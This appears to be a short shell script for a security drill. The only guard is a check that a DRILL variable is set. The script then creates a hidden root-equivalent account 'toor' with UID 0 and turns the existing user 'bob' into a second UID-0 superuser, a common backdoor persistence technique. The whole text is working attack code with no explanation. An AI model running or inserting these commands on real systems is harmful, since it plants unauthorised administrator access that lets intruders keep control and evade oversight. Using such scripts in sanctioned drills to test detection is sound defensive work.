cd "${DRILL:?this is for a drill alone}" || exit
useradd -o -u 0 -g 0 -M toor
usermod -ou 0 bob
